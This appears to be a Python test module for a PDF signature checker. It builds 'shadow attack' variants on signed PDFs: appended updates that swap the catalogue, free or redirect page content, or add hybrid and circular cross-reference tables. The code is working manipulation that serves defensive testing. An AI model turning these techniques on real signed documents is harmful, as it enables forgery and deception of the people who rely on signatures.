"""Cross-reference tables that lead elsewhere: shadow attacks (NDSS 2021), and updates that hide in new structures."""

from __future__ import annotations

from collections.abc import Callable
from io import BytesIO
from typing import Any

from pyhanko.pdf_utils.reader import PdfFileReader

from tests.certify.attacks.registry import attack
from tests.certify.attacks.scene import Scene

SHADOW = "shadow"


def _reader(pdf: bytes) -> PdfFileReader:
    return PdfFileReader(BytesIO(pdf), strict=False)


def _written(value: Any) -> bytes:
    out = BytesIO()
    value.write_to_stream(out, None)
    return out.getvalue()


def _appended(
    pdf: bytes, objects: bytes, table: Callable[[int], bytes], extra: bytes = b"", *, root: int | None = None
) -> bytes:
    """An update with a table of its own making; `table` gets where the objects start."""
    reader = _reader(pdf)
    start = len(pdf)
    trailer = b"trailer\n<</Root %d 0 R/Size 9999/Prev %d%s>>\n" % (
        root or reader.root_ref.idnum,
        reader.last_startxref,
        extra,
    )
    place = start + len(objects)
    return pdf + objects + table(start) + trailer + b"startxref\n%d\n%%%%EOF\n" % place


def _content_number(pdf: bytes) -> int:
    reference = _reader(pdf).root["/Pages"]["/Kids"][0].raw_get("/Contents")
    found = reference.get_object()
    return int((found.raw_get(0) if isinstance(found, list) else reference).idnum)


@attack(SHADOW)
def swapped_catalogue(scene: Scene) -> bytes:
    """The trailer names another catalogue, with an empty page in place of the copy's."""
    root = _reader(scene.pdf).root
    kept = b" ".join(_written(key) + b" " + _written(root.raw_get(key)) for key in root if key != "/Pages")
    body = (
        b"9001 0 obj\n<<%s/Pages 9002 0 R>>\nendobj\n" % kept
        + b"9002 0 obj\n<</Type/Pages/Count 1/Kids[9003 0 R]>>\nendobj\n"
        + b"9003 0 obj\n<</Type/Page/Parent 9002 0 R/MediaBox[0 0 9 9]>>\nendobj\n"
    )
    places = [body.index(b"%d 0 obj" % number) for number in (9001, 9002, 9003)]

    def table(start: int) -> bytes:
        return b"xref\n9001 3\n" + b"".join(b"%010d 00000 n \n" % (start + place) for place in places)

    return _appended(scene.pdf, body, table, root=9001)


@attack(SHADOW)
def compressed_update(scene: Scene) -> bytes:
    """The page is replaced inside an object stream, by a table that is a stream as well."""
    reader = _reader(scene.pdf)
    reference = reader.root["/Pages"]["/Kids"].raw_get(0)
    page = _written(reference.get_object())[:-2] + b"/CropBox[0 0 50 50]>>"
    header = b"%d 0 " % reference.idnum
    packed = header + page
    start = len(scene.pdf)
    stream = b"9000 0 obj\n<</Type/ObjStm/N 1/First %d/Length %d>>\nstream\n%s\nendstream\nendobj\n" % (
        len(header),
        len(packed),
        packed,
    )
    table = start + len(stream)
    rows = b"\x02" + (9000).to_bytes(4, "big") + b"\x00" + b"\x01" + start.to_bytes(4, "big") + b"\x00"
    rows += b"\x01" + table.to_bytes(4, "big") + b"\x00"
    entries = b"/Type/XRef/W[1 4 1]/Index[%d 1 9000 2]/Size 9002/Root %d 0 R/Prev %d/Length %d" % (
        reference.idnum,
        reader.root_ref.idnum,
        reader.last_startxref,
        len(rows),
    )
    end = b"9001 0 obj\n<<%s>>\nstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (entries, rows, table)
    return scene.pdf + stream + end


@attack(SHADOW)
def freed_content(scene: Scene) -> bytes:
    """Hide: the page's content is declared free, and another layer shows."""
    number = _content_number(scene.pdf)
    return _appended(scene.pdf, b"", lambda start: b"xref\n%d 1\n0000000000 00001 f \n" % number)


@attack(SHADOW)
def redirected_content(scene: Scene) -> bytes:
    """Hide and replace: the table leads the page's content to other bytes."""
    number = _content_number(scene.pdf)
    body = b"%d 0 obj\n<</Length 24>>\nstream\nq 0 g 0 0 500 500 re f Q\nendstream\nendobj\n" % number
    return _appended(scene.pdf, body, lambda start: b"xref\n%d 1\n%010d 00000 n \n" % (number, start))


@attack(SHADOW)
def misdirected_content(scene: Scene) -> bytes:
    """The table leads to an object of another number: readers disagree on what that means."""
    number = _content_number(scene.pdf)
    body = b"7777 0 obj\n<</Length 24>>\nstream\nq 0 g 0 0 500 500 re f Q\nendstream\nendobj\n"
    return _appended(scene.pdf, body, lambda start: b"xref\n%d 1\n%010d 00000 n \n" % (number, start))


@attack(SHADOW)
def redirected_to_the_beginning(scene: Scene) -> bytes:
    number = _content_number(scene.pdf)
    return _appended(scene.pdf, b"", lambda start: b"xref\n%d 1\n%010d 00000 n \n" % (number, 15))


@attack(SHADOW, "not_last_entry")
def unlisted_object(scene: Scene) -> bytes:
    """An update whose table does not mention the object that it brings: lenient viewers find it."""
    number = _content_number(scene.pdf)
    body = b"%d 0 obj\n<</Length 24>>\nstream\nq 0 g 0 0 500 500 re f Q\nendstream\nendobj\n" % number
    return _appended(scene.pdf, body, lambda start: b"xref\n0 1\n0000000000 65535 f \n")


@attack(SHADOW)
def another_generation(scene: Scene) -> bytes:
    """The content under a higher generation number."""
    number = _content_number(scene.pdf)
    body = b"%d 1 obj\n<</Length 24>>\nstream\nq 0 g 0 0 500 500 re f Q\nendstream\nendobj\n" % number
    return _appended(scene.pdf, body, lambda start: b"xref\n%d 1\n%010d 00001 n \n" % (number, start))


@attack(SHADOW, "unaccounted_bytes")
def table_in_a_circle(scene: Scene) -> bytes:
    """`/Prev` leads to itself."""
    start = len(scene.pdf)
    return (
        scene.pdf
        + b"xref\n0 1\n0000000000 65535 f \ntrailer\n<</Root 1 0 R/Size 9/Prev %d>>\nstartxref\n%d\n%%%%EOF\n"
        % (
            start,
            start,
        )
    )


@attack(SHADOW, "unaccounted_bytes")
def no_table(scene: Scene) -> bytes:
    return scene.pdf + b"startxref\n0\n%%EOF\n"


@attack(SHADOW)
def smuggled_in_the_trailer(scene: Scene) -> bytes:
    """A key in the trailer that readers do not know."""
    return _appended(
        scene.pdf, b"", lambda start: b"xref\n0 1\n0000000000 65535 f \n", b"/Shadow<</Type/Page/Contents 1 0 R>>"
    )


@attack(SHADOW, "hybrid_after_signing")
def two_tables(scene: Scene) -> bytes:
    """A hybrid update: old programs read one table, new ones also another."""
    number = _content_number(scene.pdf)
    start = len(scene.pdf)
    data = bytes([1]) + (start + 2).to_bytes(4, "big") + bytes([0])
    stream = b"8000 0 obj\n<</Type/XRef/W[1 4 1]/Index[%d 1]/Size 9999/Length %d>>\nstream\n" % (number, len(data))
    body = stream + data + b"\nendstream\nendobj\n"
    return _appended(scene.pdf, body, lambda start: b"xref\n0 1\n0000000000 65535 f \n", b"/XRefStm %d" % start)
